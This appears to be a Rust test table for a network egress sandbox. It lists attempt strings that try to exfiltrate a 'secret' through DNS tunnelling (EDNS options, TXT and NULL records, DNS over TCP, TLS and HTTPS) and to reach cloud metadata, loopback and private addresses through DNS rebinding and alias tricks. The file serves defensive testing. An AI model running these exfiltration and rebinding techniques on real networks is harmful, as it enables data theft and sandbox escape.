//! Names: as a way out by themselves, and as a way to where no rule leads.

use crate::Group;
use crate::ground::Leak;

pub const GROUPS: &[Group] = &[
    Group {
        name: "dns",
        leak: Leak::Secret,
        attempts: &[
            ("name", "socket.gethostbyname('secret.example')"),
            ("name_upper", "socket.getaddrinfo('secret.EXAMPLE', 80)"),
            (
                "name_below_an_allowed",
                "socket.getaddrinfo('a.secret.example', 80)",
            ),
            (
                "name_at_the_end_dot",
                "socket.getaddrinfo('secret.example.', 80)",
            ),
            (
                "name_as_label_of_data",
                "socket.getaddrinfo('secret' * 10 + '.secret.example', 80)",
            ),
            ("tcp_to_a_name", "tcp('secret.example', 80)"),
            (
                "asked_elsewhere",
                "dns('8.8.8.8', question('secret.example'))",
            ),
            (
                "asked_elsewhere_6",
                "dns('2001:4860:4860::8888', question('secret.example'), V6)",
            ),
            (
                "asked_of_metadata",
                "dns('169.254.169.253', question('secret.example'))",
            ),
            (
                "asked_of_private",
                "dns('10.0.0.2', question('secret.example'))",
            ),
            (
                "asked_with_data_for_an_allowed",
                "dns('8.8.8.8', question('pypi.example', more=edns(b'secret')))",
            ),
            (
                "cookie",
                "dns('8.8.8.8', question('pypi.example', more=edns(b'secret00', 10)))",
            ),
            (
                "client_subnet",
                "dns('8.8.8.8', question('pypi.example', more=edns(b'\\0\\x01\\x20\\0secret', 8)))",
            ),
            (
                "padding",
                "dns('8.8.8.8', question('pypi.example', more=edns(b'secret' * 20, 12)))",
            ),
            (
                "bytes_behind_the_question",
                "dns('8.8.8.8', question('pypi.example') + b'secret')",
            ),
            (
                "two_questions",
                "dns('8.8.8.8', question('pypi.example', 'secret.example'))",
            ),
            (
                "text",
                "dns('8.8.8.8', question('secret.example', kind=16))",
            ),
            (
                "null_record",
                "dns('8.8.8.8', question('secret.example', kind=10))",
            ),
            (
                "any",
                "dns('8.8.8.8', question('secret.example', kind=255))",
            ),
            (
                "https_record",
                "dns('8.8.8.8', question('secret.example', kind=65))",
            ),
            (
                "service_record",
                "dns('8.8.8.8', question('_secret._tcp.example', kind=33))",
            ),
            (
                "transfer",
                "dns('8.8.8.8', question('secret.example', kind=252))",
            ),
            (
                "pointer",
                "dns('8.8.8.8', question('secret.in-addr.arpa', kind=12))",
            ),
            (
                "chaos_class",
                "dns('8.8.8.8', question('secret.example', class_=3))",
            ),
            (
                "update",
                "dns('8.8.8.8', question('secret.example', flags=0x2800))",
            ),
            (
                "notify",
                "dns('8.8.8.8', question('secret.example', flags=0x2000))",
            ),
            (
                "status",
                "dns('8.8.8.8', question('secret.example', flags=0x1000))",
            ),
            (
                "an_answer",
                "dns('8.8.8.8', question('secret.example', flags=0x8180))",
            ),
            (
                "label_with_a_dot",
                "dns('8.8.8.8', question_of([b'pypi.example.secret', b'example']))",
            ),
            (
                "label_with_nul",
                "dns('8.8.8.8', question_of([b'pypi\\0secret', b'example']))",
            ),
            (
                "binary_labels",
                "dns('8.8.8.8', question_of([b'\\xff\\xfesecret', b'example']))",
            ),
            (
                "long_labels",
                "dns('8.8.8.8', question_of([b'secret'.ljust(63, b'x')] * 3))",
            ),
            (
                "compressed_name",
                "dns('8.8.8.8', question_of([b'secret'], end=b'\\xc0\\x0c'))",
            ),
            ("not_dns", "dns('8.8.8.8', b'secret')"),
            (
                "by_tcp",
                "dns_stream('8.8.8.8', [question('secret.example')])",
            ),
            (
                "by_tcp_many",
                "dns_stream('8.8.8.8', [question(f'{n}.secret.example') for n in range(50)])",
            ),
            (
                "by_tcp_mixed",
                "dns_stream('8.8.8.8', [question('pypi.example'), question('secret.example')])",
            ),
            (
                "by_tcp_6",
                "dns_stream('2001:4860:4860::8888', [question('secret.example')], V6)",
            ),
            ("by_tcp_not_dns", "tcp('8.8.8.8', 53)"),
            ("by_tcp_http", "http('8.8.8.8', 'secret.example', 53)"),
            (
                "by_tcp_tls",
                "hello('8.8.8.8', sni(b'secret.example'), port=53)",
            ),
            (
                "over_tls",
                "hello('8.8.8.8', sni(b'secret.example'), port=853)",
            ),
            (
                "over_tls_without_name",
                "hello('8.8.8.8', extension(35, b'secret'), port=853)",
            ),
            (
                "over_https_by_address",
                "say('8.8.8.8', 443, tls_hello(sni(b'secret.example')))",
            ),
            (
                "over_https_by_name",
                "hello('dns.secret.example', sni(b'dns.secret.example'))",
            ),
            (
                "over_https_without_tls",
                "say('8.8.8.8', 80, b'GET /dns-query?dns=secret HTTP/1.1\\r\\n\\r\\n')",
            ),
            (
                "hosts_resolver_by_address",
                "dns('127.0.0.53', question('secret.example'))",
            ),
            (
                "on_another_port",
                "dns(SERVER, question('secret.example'), port=5353)",
            ),
        ],
    },
    Group {
        name: "leads",
        leak: Leak::Special,
        attempts: &[
            ("loopback", "tcp('to-127-0-0-1.leads.example', 9999)"),
            ("loopback_6", "tcp('loopback6.leads.example', 9999, V6)"),
            (
                "mapped_loopback",
                "tcp('mapped-loopback.leads.example', 9999, V6)",
            ),
            ("unspecified", "tcp('to-0-0-0-0.leads.example', 9999)"),
            ("own_address", "tcp('to-192-0-2-2.leads.example', 9999)"),
            ("own_address_6", "tcp('own6.leads.example', 9999, V6)"),
            ("metadata", "tcp('to-169-254-169-254.leads.example', 80)"),
            ("metadata_mapped", "tcp('mapped.leads.example', 80, V6)"),
            ("metadata_nat64", "tcp('nat64.leads.example', 80, V6)"),
            ("metadata_6to4", "tcp('6to4.leads.example', 80, V6)"),
            ("metadata_6", "tcp('metadata6.leads.example', 80, V6)"),
            ("teredo", "tcp('teredo.leads.example', 80, V6)"),
            ("isatap", "tcp('isatap.leads.example', 80, V6)"),
            ("translated", "tcp('translated.leads.example', 80, V6)"),
            ("private_ten", "tcp('to-10-0-0-1.leads.example', 80)"),
            ("private_twelve", "tcp('to-172-16-0-1.leads.example', 80)"),
            ("private_sixteen", "tcp('to-192-168-0-1.leads.example', 80)"),
            ("shared", "tcp('to-100-64-0-1.leads.example', 80)"),
            ("gateway", "tcp('to-192-0-2-1.leads.example', 80)"),
            ("benchmarking", "tcp('to-198-18-1-0.leads.example', 80)"),
            ("reserved", "tcp('to-240-0-0-1.leads.example', 80)"),
            ("unique_local", "tcp('local6.leads.example', 80, V6)"),
            ("alias_to_private", "tcp('alias.leads.example', 80)"),
            ("alias_of_an_alias", "tcp('aliases.leads.example', 80)"),
            ("private_among_many", "tcp_all('many.leads.example', 81)"),
            (
                "private_before_others",
                "tcp_all('private-first.leads.example', 81)",
            ),
            (
                "private_only_in_ipv6",
                "tcp('six-only.leads.example', 80, V6)",
            ),
            ("rebound", "twice('rebound.leads.example', 80)"),
            (
                "rebound_back_and_forth",
                "for _ in range(3): twice('flips.leads.example', 80)",
            ),
            (
                "rebound_to_loopback",
                "twice('rebound-loopback.leads.example', 9999)",
            ),
            (
                "rebound_by_family",
                "twice('rebound6.leads.example', 80, V6)",
            ),
            (
                "rebound_while_many",
                "threads(lambda: tcp('rebound-many.leads.example', 80))",
            ),
        ],
    },
    Group {
        name: "denied_names",
        leak: Leak::Secret,
        attempts: &[
            ("a_denial_outranks", "tcp('denied.leads.example', 80)"),
            ("other_port", "tcp('pypi.example', 22)"),
            ("other_port_below_wildcard", "tcp('a.wild.example', 80)"),
            ("name_above_a_wildcard", "tcp('wild.example', 443)"),
            ("name_that_ends_alike", "tcp('notwild.example', 443)"),
            ("udp_to_an_allowed_name", "udp('pypi.example', 443)"),
            ("quic_to_an_allowed_name", "quic('pypi.example')"),
            (
                "echo_to_an_allowed_name",
                "raw_ip(1, socket.gethostbyname('pypi.example'), b'\\x08\\0\\0\\0\\0\\x01\\0\\x01secret')",
            ),
            ("address_without_its_name", "tcp(SERVER, 443)"),
        ],
    },
];
